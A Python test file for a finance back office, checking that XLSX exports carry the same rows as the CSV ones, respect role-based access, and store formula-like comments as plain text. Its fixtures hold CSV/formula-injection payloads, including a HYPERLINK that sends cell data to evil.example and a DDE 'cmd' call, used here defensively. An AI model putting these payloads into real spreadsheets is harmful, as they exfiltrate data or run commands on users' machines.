"""Every list finance exports as CSV also downloads as XLSX, from the same rows: the same
columns in the same order, amounts as numbers (integer centimes), text as text cells — a
comment written as ``=HYPERLINK(…)`` or ``+1+1`` is a string cell, never a formula.

The workbook is read as a spreadsheet reads it, from the XML inside its zip (ECMA-376:
``xl/worksheets/sheet1.xml`` for the cells, ``xl/sharedStrings.xml`` for their text).
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from dataclasses import dataclass
from datetime import date
from pathlib import Path

import pytest
from defusedxml import ElementTree
from httpx2 import Response

from agent_api.csv_safety import formula_safe
from agent_api.domain.roles import Role
from qurb.backoffice.exports import XLSX_MEDIA_TYPE, xlsx_bytes
from reconciliation.container import Reconciliation
from tests.conftest import FakeClock
from tests.integration.conftest import World
from tests.support.backoffice import BackOffice
from tests.support.reconciliation import FINANCE, reconciled_day
from tests.support.terminal import TestTerminal

NS = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
LINK = '=HYPERLINK("https://evil.example/x?d="&A1,"Détails")'
HOSTILE = (LINK, "+1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3")


@dataclass(frozen=True)
class Cell:
    """A cell as the file stores it: ``kind`` is ``s`` (a string) or ``n`` (a number);
    ``quoted`` when Excel's quote prefix keeps an edited cell text; ``formula`` when the
    cell holds one (never, here)."""

    kind: str
    value: str
    quoted: bool = False
    formula: bool = False


def _column(ref: str) -> int:
    letters = re.match(r"[A-Z]+", ref)
    assert letters is not None
    number = 0
    for letter in letters.group(0):
        number = number * 26 + ord(letter) - 64
    return number - 1


def read_xlsx(body: bytes) -> list[list[Cell | None]]:
    """The first sheet's rows, each cell typed as stored."""
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        names = book.namelist()
        shared: list[str] = []
        if "xl/sharedStrings.xml" in names:
            for item in ElementTree.fromstring(book.read("xl/sharedStrings.xml")):
                shared.append("".join(t.text or "" for t in item.iter(f"{{{NS['m']}}}t")))
        styles = ElementTree.fromstring(book.read("xl/styles.xml"))
        xfs = styles.find("m:cellXfs", NS)
        assert xfs is not None
        quoted_styles = {i for i, xf in enumerate(xfs) if xf.get("quotePrefix") == "1"}
        sheet = ElementTree.fromstring(book.read("xl/worksheets/sheet1.xml"))
    rows: list[list[Cell | None]] = []
    for row in sheet.iter(f"{{{NS['m']}}}row"):
        cells: list[Cell | None] = []
        for c in row.findall("m:c", NS):
            at = _column(c.get("r", ""))
            cells += [None] * (at - len(cells))
            v = c.find("m:v", NS)
            formula = c.find("m:f", NS) is not None
            raw = v.text or "" if v is not None else ""
            kind = c.get("t", "n")
            text = shared[int(raw)] if kind == "s" else raw
            quoted = int(c.get("s", "0")) in quoted_styles
            kind = "s" if kind in ("s", "str", "inlineStr") else kind
            cells.append(Cell(kind, text, quoted, formula))
        rows.append(cells)
    return rows


def as_csv_reads_it(cell: Cell | None) -> str:
    """What the CSV holds for the same value: a number's digits, a text made formula-safe."""
    if cell is None:
        return ""
    return cell.value if cell.kind == "n" else formula_safe(cell.value)


def assert_same_rows(csv_answer: Response, xlsx_answer: Response) -> list[list[Cell | None]]:
    assert csv_answer.status_code == 200, csv_answer.text[:300]
    assert xlsx_answer.status_code == 200, xlsx_answer.text[:300]
    assert xlsx_answer.headers["content-type"] == XLSX_MEDIA_TYPE
    disposition = xlsx_answer.headers["content-disposition"]
    assert disposition.startswith("attachment;")
    assert disposition.endswith('.xlsx"')
    table = list(csv.reader(io.StringIO(csv_answer.text)))
    book = read_xlsx(xlsx_answer.content)
    assert len(book) == len(table) > 1
    width = len(table[0])
    for line, (csv_row, xlsx_row) in enumerate(zip(table, book, strict=True)):
        padded = xlsx_row + [None] * (width - len(xlsx_row))
        assert [as_csv_reads_it(c) for c in padded] == csv_row, f"line {line + 1}"
        assert not any(c is not None and c.formula for c in padded), f"line {line + 1}"
    assert all(c is not None and c.kind == "s" for c in book[0])  # the header: names, as text
    return book


@pytest.fixture
def reconciled(
    world: World, terminal: TestTerminal, clock: FakeClock, tmp_path: Path
) -> tuple[date, Reconciliation]:
    services = world.services
    recon = Reconciliation.build(services.settings, services.engine, services.clock)
    day = reconciled_day(recon, terminal, clock, tmp_path, payments=6)
    # Finance closed some exceptions with comments written as spreadsheet formulas.
    worker = FINANCE.__class__(user_id=0, username="x", role=Role.FINANCE)
    found = recon.exceptions.list(FINANCE, business_date=day, status="open", limit=1000)
    assert len(found) >= len(HOSTILE)
    for exception, comment in zip(found, HOSTILE, strict=False):
        recon.exceptions.work(
            worker, exception.id, to="resolved", reason_code="other", comment=comment
        )
    return day, recon


def _office(world: World, username: str = "cnss.finance") -> BackOffice:
    office = BackOffice(world)
    assert office.sign_in(username).status_code == 303
    return office


def _by_name(book: list[list[Cell | None]]) -> list[dict[str, Cell | None]]:
    names = [c.value if c else "" for c in book[0]]
    return [
        dict(zip(names, row + [None] * (len(names) - len(row)), strict=True)) for row in book[1:]
    ]


def number(cell: Cell | None) -> int:
    """A number cell's integer (amounts are integer centimes: no decimal point, no exponent)."""
    assert cell is not None
    assert cell.kind == "n"
    assert re.fullmatch(r"-?[0-9]+", cell.value), cell.value
    return int(cell.value)


def test_the_exception_queue_downloads_as_xlsx_with_formulas_as_plain_text(
    world: World, reconciled: tuple[date, Reconciliation]
) -> None:
    day, _ = reconciled
    office = _office(world)
    book = assert_same_rows(
        office.get(f"/finance/exceptions?day={day}&format=csv"),
        office.get(f"/finance/exceptions?day={day}&format=xlsx"),
    )
    rows = _by_name(book)
    comments = {r["comment"].value: r["comment"] for r in rows if r["comment"] is not None}
    for text in HOSTILE:
        cell = comments[text]  # the very text, no apostrophe added
        assert cell == Cell("s", text, quoted=True), text
    for row in rows:
        for name in ("id", "version", "hub_centimes", "other_centimes", "difference_centimes"):
            number(row[name])
        assert row["business_date"] == Cell("s", day.isoformat())
    assert any(number(r["difference_centimes"]) < 0 for r in rows)


def test_the_days_report_downloads_as_xlsx_with_the_csvs_rows(
    world: World, reconciled: tuple[date, Reconciliation]
) -> None:
    day, _ = reconciled
    office = _office(world, "cnss.auditor")  # a reader downloads as finance does
    page = office.get(f"/finance/days/{day}")
    assert f"/back-office/finance/days/{day}/report.xlsx?version=1" in page.text
    book = assert_same_rows(
        office.get(f"/finance/days/{day}/report.csv?version=1"),
        office.get(f"/finance/days/{day}/report.xlsx?version=1"),
    )
    rows = _by_name(book)
    grand = next(r for r in rows if r["line"] == Cell("s", "grand_total"))
    assert number(grand["hub_centimes"]) > 0
    assert {r["comment"].value for r in rows if r["comment"]} >= set(HOSTILE)


def test_the_calendar_and_the_statements_download_as_xlsx(
    world: World, reconciled: tuple[date, Reconciliation]
) -> None:
    day, _ = reconciled
    office = _office(world)
    calendar = office.get(f"/finance/calendar?month={day:%Y-%m}")
    assert "format=xlsx" in calendar.text
    assert "Exporter en XLSX" in calendar.text
    book = assert_same_rows(
        office.get(f"/finance/calendar?month={day:%Y-%m}&format=csv"),
        office.get(f"/finance/calendar?month={day:%Y-%m}&format=xlsx"),
    )
    cashplus = next(r for r in _by_name(book) if r["network"] == Cell("s", "CASHPLUS"))
    assert number(cashplus["collections"]) == 6
    assert_same_rows(
        office.get(f"/finance/statements?day={day}&format=csv"),
        office.get(f"/finance/statements?day={day}&format=xlsx"),
    )
    reference = f"QURB-STL-CASHPLUS-{day:%Y%m%d}"
    statement = assert_same_rows(
        office.get(f"/finance/statements/{reference}.csv"),
        office.get(f"/finance/statements/{reference}.xlsx"),
    )
    total = _by_name(statement)[-1]
    assert total["office"] == Cell("s", "TOTAL")
    assert number(total["net_centimes"]) > 0


def test_every_csv_link_of_finances_screens_has_its_xlsx_link(
    world: World, reconciled: tuple[date, Reconciliation]
) -> None:
    day, _ = reconciled
    office = _office(world)
    reference = f"QURB-STL-CASHPLUS-{day:%Y%m%d}"
    for path in (
        f"/finance/calendar?month={day:%Y-%m}",
        f"/finance/days/{day}",
        f"/finance/exceptions?day={day}",
        f"/finance/statements?day={day}",
        f"/finance/statements/{reference}",
    ):
        html = office.get(path).text
        csv_links = re.findall(r'href="([^"]*(?:\.csv|format=csv)[^"]*)"', html)
        assert csv_links, path
        for link in csv_links:
            xlsx = link.replace(".csv", ".xlsx").replace("format=csv", "format=xlsx")
            assert f'href="{xlsx}"' in html, (path, link)
    arabic = office.get(f"/finance/calendar?month={day:%Y-%m}&lang=ar").text
    assert "تصدير بصيغة XLSX" in arabic


def test_a_cell_is_never_guessed_from_its_text() -> None:
    """Numbers are numbers only when the row holds an integer: a registration number, a
    date or a text of digits stays the text it is, leading zeros and all."""
    body = xlsx_bytes(
        ("a", "b", "c", "d", "e"),
        [{"a": "0012345678", "b": 1_834, "c": "2026-11-20", "d": -18_341, "e": None}],
    )
    [header, row] = read_xlsx(body)
    assert [c.value for c in header if c] == ["a", "b", "c", "d", "e"]
    assert row == [
        Cell("s", "0012345678"),
        Cell("n", "1834"),
        Cell("s", "2026-11-20"),
        Cell("n", "-18341"),
    ]


def test_each_xlsx_download_is_given_to_whom_its_list_is(
    world: World, reconciled: tuple[date, Reconciliation]
) -> None:
    """The authorization matrix, for the downloads: finance, the auditor and the CNSS admin
    get every list; a network admin only its own network's statements (another's is a 404,
    the national lists a 403); nobody signed out gets anything."""
    day, _ = reconciled
    own = f"/finance/statements/QURB-STL-CASHPLUS-{day:%Y%m%d}.xlsx"
    national = [
        f"/finance/calendar?month={day:%Y-%m}&format=xlsx",
        f"/finance/days/{day}/report.xlsx",
        f"/finance/exceptions?day={day}&format=xlsx",
    ]
    statements = [f"/finance/statements?day={day}&format=xlsx", own]
    for username in ("cnss.finance", "cnss.auditor", "cnss.admin"):
        office = _office(world, username)
        for path in national + statements:
            answer = office.get(path)
            assert answer.status_code == 200, (username, path)
            assert answer.headers["content-type"] == XLSX_MEDIA_TYPE, (username, path)
    cashplus, wafacash = _office(world, "admin.cashplus"), _office(world, "admin.wafacash")
    for path in national:
        assert cashplus.get(path).status_code == 403, path
    assert cashplus.get(own).status_code == 200
    assert wafacash.get(own).status_code == 404
    listed = _by_name(read_xlsx(wafacash.get(statements[0]).content))
    assert {r["network"] for r in listed} == {Cell("s", "WAFACASH")}  # its own statement only
    signed_out = BackOffice(world)
    for path in national + statements:
        assert signed_out.get(path).status_code == 303, path


def test_a_text_longer_than_a_cell_holds_is_cut_where_it_shows() -> None:
    body = xlsx_bytes(("ledger_lines",), [{"ledger_lines": "L.csv:1:E1 " * 4_000}])
    [_, [cell]] = read_xlsx(body)
    assert cell is not None
    assert len(cell.value) == 32_767
    assert cell.value.endswith("…")
